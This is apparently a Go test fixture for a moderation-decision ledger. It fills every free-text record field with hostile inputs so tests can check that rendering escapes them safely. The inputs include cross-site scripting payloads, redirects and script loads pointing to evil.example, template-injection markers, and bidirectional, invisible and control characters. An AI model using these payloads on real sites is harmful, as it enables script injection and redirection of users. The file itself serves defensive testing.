package ledgertest

import (
	"context"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/docket-ledger/docket/ledger"
	"github.com/docket-ledger/docket/verify/record"
)

// Each text of a hostile record begins and ends with these words, so that a test
// can tell where it stands, and whether it stands apart.
const (
	HostileStart = "zqstart"
	HostileEnd   = "zqend"
)

// attacks are what a text may try: to run, to break out of its place, to load
// something, to turn the direction of its neighbours, to hide, or to be too large.
// What runs sets the global hacked, what loads asks evil.example.
var attacks = []string{
	`<script>window.hacked=1</script><script src=https://evil.example/x.js></script>`,
	`<img src=https://evil.example/x.png onerror=window.hacked=1><svg/onload=window.hacked=1>`,
	`"><b onmouseover="window.hacked=1" autofocus tabindex=1 onfocus="window.hacked=1" id="main">`,
	`' onclick='window.hacked=1' style='background:url(https://evil.example/y)`,
	"`${window.hacked=1}` {{.}} {{template \"layout.html\"}} <%= 1 %>",
	`</title></style></textarea></script></bdi></p></main><script>window.hacked=1</script>`,
	`<!-- --><base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>`,
	`<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><form action=https://evil.example><button>x`,
	`javascript:window.hacked=1//`,
	`[x](javascript:window.hacked=1) https://evil.example/?<b>&"quot`,
	`]]><x xmlns="http://www.w3.org/1999/xhtml"><script>window.hacked=1</script></x><![CDATA[`,
	"&lt;script&gt;window.hacked=1&lt;/script&gt; &#x3c;b&#x3e; %3Cscript%3E \\u003cscript\\u003e",
	"right to left: \u202egnp.exe\u202c, never closed: \u202e\u202d\u2066\u2067\u2068\u202a\u202b",
	"\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd (1) 2 [3] \u0645\u0631\u062d\u0628\u0627 !",
	"hidden: a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u200eh\u200fi\u061cj\u180ek\u3164l\U000e0041\U000e0042m",
	"control: \x01\x07\x08\x0b\x1b[31m\x1b]0;x\x07\x7f\u0085\u009b31m\u2028\u2029\t\r\n\n\nend",
	"combining: " + strings.Repeat("Z\u0300\u0301\u0302\u0310\u0321\u0330\u0346\u035b\u0489", 12),
	"emoji: \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1e6\U0001f1f9 \U0001f44d\U0001f3ff",
	strings.Repeat("long", 50) + " https://example.org/" + strings.Repeat("a/b?c=", 30),
}

// hostileText returns a text with one attack, or with all of them.
func hostileText(n int) string {
	body := strings.Join(attacks, " \n ")
	if n >= 0 {
		body = attacks[n%len(attacks)]
	}
	return HostileStart + " " + body + " " + HostileEnd
}

// freeTexts are the members that hold any text, by the names of their fields.
var freeTexts = []string{"Authority", "CategorySpecificationOther", "Contact", "ContentTypeOther", "DecisionMonetaryOther",
	"DecisionVisibilityOther", "Detail", "DistinguishingReason", "Facts", "IncompatibleContentExplained", "IncompatibleContentGround",
	"Is", "LegalReference", "Locator", "Name", "Operator", "Reasons", "Redress", "Reference", "Reporter", "Source", "Statement",
	"Summary", "Text", "Title", "Was", "What", "Why", "WhyNot"}

// A spoiler fills texts with attacks: each in its turn, or all of them where
// there is room.
type spoiler struct{ n int }

// spoil fills every free text of a payload and returns it.
func (s *spoiler) spoil(p record.Payload) record.Payload {
	s.fill(reflect.ValueOf(p).Elem(), false)
	if n, ok := p.(*record.Notice); ok && n.Kind == record.Proposed {
		n.Redress = "" // it does not stand there
	}
	return p
}

func (s *spoiler) fill(v reflect.Value, short bool) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			s.fill(v.Elem(), short)
		}
	case reflect.Slice:
		for i := range v.Len() {
			s.fill(v.Index(i), short)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			f, field := v.Field(i), v.Type().Field(i)
			switch {
			case field.Name == "DSA":
				s.fill(f, true) // its texts have at most 500 characters
			case f.Kind() == reflect.String && slices.Contains(freeTexts, field.Name):
				f.SetString(s.next(short || !slices.Contains([]string{"Facts", "Reasons", "Text", "Title", "Operator", "Name"}, field.Name)))
			case field.IsExported():
				s.fill(f, short)
			}
		}
	}
}

func (s *spoiler) next(short bool) string {
	s.n++
	if !short {
		return hostileText(-1)
	}
	return hostileText(s.n)
}

// long makes a name as long as it may be.
func long(name string) string { return name + strings.Repeat("w", 64-len(name)) }

// NewHostile returns a World in which every free text of every record is hostile,
// and names are as long as they may be. All its records are effective but for one
// that is logged as void; the last two hold words that fill a record.
func NewHostile(tb testing.TB) *World {
	tb.Helper()
	s := &spoiler{}
	w := begin(tb, false, func(c *ledger.Config) { c.VoidsPerDay = 1 }, func(c *record.Charter) { s.spoil(c) })
	submit := func(p record.Payload, names ...string) record.ID {
		tb.Helper()
		w.Advance(time.Minute)
		return w.Submit(w.Sign(s.spoil(p), names...)).ID
	}
	for name, role := range map[string]record.Role{"ira": record.RoleIntake, "una": record.RoleAppeals, "uli": record.RoleAppeals,
		"eve": record.RoleEnforcer, "pia": record.RolePrivacy, "mac": record.RoleMachine} {
		submit(&record.KeyEnrol{Holder: long(name), JWK: JWK(name), Roles: []record.Role{role}}, "ada", "ben", name)
	}
	h := &hostile{World: w, submit: submit, name: long("case-"), policy: long("policy-")}
	h.policies()
	h.acts()
	h.others()
	void := s.spoil(h.decision(long("void-"), "")).(*record.Decision)
	void.Grounds = nil
	_, err := w.Ledger.Submit(context.Background(), w.Sign(void, "dora"), ledger.Options{LogVoid: true})
	w.must(err)
	h.huge()
	return w
}

type hostile struct {
	*World
	submit       func(record.Payload, ...string) record.ID
	name, policy string // of the case and of the policy
	published    record.ID
	decided      record.ID
}

// version returns a version of the policy; the second has fewer clauses.
func (h *hostile) version(n int64) *record.PolicyPublish {
	p := Abuse()
	p.Policy, p.Version = h.policy, n
	for i := range p.Clauses {
		p.Clauses[i].Clause = long(p.Clauses[i].Clause)
	}
	p.Clauses[0].Appeal = &record.AppealRight{Quorum: record.Quorum{Role: record.RoleAppeals, Count: 2}, RuleWithin: 336, Within: 4320}
	if n > 1 {
		p.Clauses = p.Clauses[:2]
	}
	return p
}

func (h *hostile) policies() {
	h.published = h.submit(h.version(1), "ada", "cleo")
	before := Abuse()
	before.Policy, before.EffectiveFrom, before.Historic = "historic", record.Time(Start.AddDate(-3, 0, 0).Unix()), &record.Historic{}
	old := h.submit(before, "ada", "cleo")
	d := h.decision("before", "")
	d.DecidedAt, d.EffectiveAt = record.Time(Start.AddDate(-1, 0, 0).Unix()), record.Time(Start.AddDate(-1, 0, 0).Unix())
	d.Grounds = []record.Ground{{Policy: "historic", Version: 1, Clause: "hosting", Record: old}}
	d.Retrospective = &record.Retrospective{}
	h.submit(d, "dora", "erik")
}

// decision returns a decision with every member that has a text.
func (h *hostile) decision(name string, prev record.ID) *record.Decision {
	d := h.Decision(name)
	d.Prev = prev
	d.Subject.Ref = Ref(h.name)
	d.Grounds = []record.Ground{{Policy: h.policy, Version: 1, Clause: long("hosting"), Record: h.published}}
	d.Alternatives = []record.Alternative{{Action: record.Warn}, {Action: record.Restrict}}
	d.Evidence = []record.Evidence{{SHA256: Ref("a file")}}
	d.Territory = []string{"AT", "DE"}
	d.Trigger.Kind = "court_order"
	d.DSA = &record.DSA{Category: "STATEMENT_CATEGORY_SCAMS_AND_FRAUD", CategorySpecification: []string{"KEYWORD_OTHER"},
		ContentDate: "2026-10-30", ContentType: []string{"CONTENT_TYPE_OTHER"}, DecisionGround: "DECISION_GROUND_INCOMPATIBLE_CONTENT",
		DecisionGroundReferenceURL: `https://evil.example/"><script>window.hacked=1</script>`,
		DecisionMonetary:           "DECISION_MONETARY_OTHER", DecisionVisibility: []string{"DECISION_VISIBILITY_OTHER"},
		DecisionProvision: "DECISION_PROVISION_TOTAL_TERMINATION"}
	return d
}

// acts tells a case from the report to the ruling, and an emergency.
func (h *hostile) acts() {
	subject := record.Subject{Ref: Ref(h.name), Type: "domain"}
	prev := h.submit(&record.Intake{Case: h.name, Category: long("category-"), Channel: "form", Lang: "en", ReceivedAt: h.Time(0),
		ServiceLayer: "hosting", Subject: subject, Trigger: record.Trigger{Kind: "court_order"}}, "ira")
	prev = h.submit(&record.Notice{Case: h.name, Prev: prev, Kind: record.Proposed, Action: record.Suspend, Channel: "email", Lang: "en",
		Grounds:   []record.Ground{{Policy: h.policy, Version: 1, Clause: long("hosting"), Record: h.published}},
		RespondBy: h.Time(time.Hour), ServiceLayer: "hosting", Subject: subject}, "dora")
	h.decided = h.submit(h.decision(h.name, prev), "dora", "erik")
	told := &record.Notice{Case: h.name, Prev: h.decided, Kind: record.Delivered, Decision: h.decided, Channel: "letter", Lang: "en",
		ServiceLayer: "hosting", Subject: subject}
	prev = h.submit(told, "dora")
	appeal := h.submit(&record.Appeal{Case: h.name, Decision: h.decided, Prev: prev, Filer: "subject", Lang: "en", ReceivedAt: h.Time(0)}, "ira")
	h.submit(&record.Ruling{Case: h.name, Appeal: appeal, Prev: appeal, Action: record.Restrict, Outcome: record.Modified, Lang: "en",
		Until: h.Time(1000 * time.Hour)}, "una", "uli")
	d := h.decision(long("emergency-"), "")
	d.Emergency, d.Action, d.ServiceLayer = &record.Harm{Harm: "threat-to-life"}, record.Restrict, "security"
	d.Grounds[0].Clause = long("security")
	at := h.submit(d, "erik")
	h.submit(&record.Ratification{Case: d.Case, Decision: at, Prev: at, Lang: "en"}, "fay", "gus")
}

// others are the records that are no acts.
func (h *hostile) others() {
	h.submit(&record.Erratum{About: h.decided, Corrections: []record.Correction{{Member: "facts"}, {Member: "subject/name"}}, Lang: "en"}, "dora", "erik")
	h.submit(&record.Execution{About: h.decided, At: h.Time(0), Lang: "en", Result: "failed", System: long("edge-")}, "eve")
	h.submit(&record.Export{About: h.decided, At: h.Time(0), Register: long("register-")}, "mac")
	h.submit(&record.Erasure{About: h.decided, Lang: "en", Members: []string{hostileText(0), hostileText(12)}}, "pia")
	h.submit(h.version(2), "ada", "cleo")
	h.submit(&record.PolicyRepeal{EffectiveFrom: h.Time(time.Hour), Lang: "en", Policy: "historic"}, "ada", "cleo")
	h.submit(&record.KeyRevoke{KID: JWK("gus").KID(), Reason: record.Compromised, Since: h.Time(-time.Hour)}, "ada", "ben")
	h.submit(&record.CharterAmend{Terms: h.Charter().Terms}, "ada", "ben", "rita", "rolf")
}

// huge logs a policy and a decision with words that fill a record.
func (h *hostile) huge() {
	const letters = 45_000
	p := Abuse()
	p.Policy = "huge"
	p.Clauses[0].Text = strings.Repeat("W", letters)
	id := h.Submit(h.Sign(p, "ada", "cleo")).ID
	d := h.Decision("huge")
	d.Grounds = []record.Ground{{Policy: "huge", Version: 1, Clause: "hosting", Record: id}}
	d.Facts, d.Subject.Name = strings.Repeat("W", letters), strings.Repeat("n", 1000)
	h.Submit(h.Sign(d, "dora", "erik"))
}
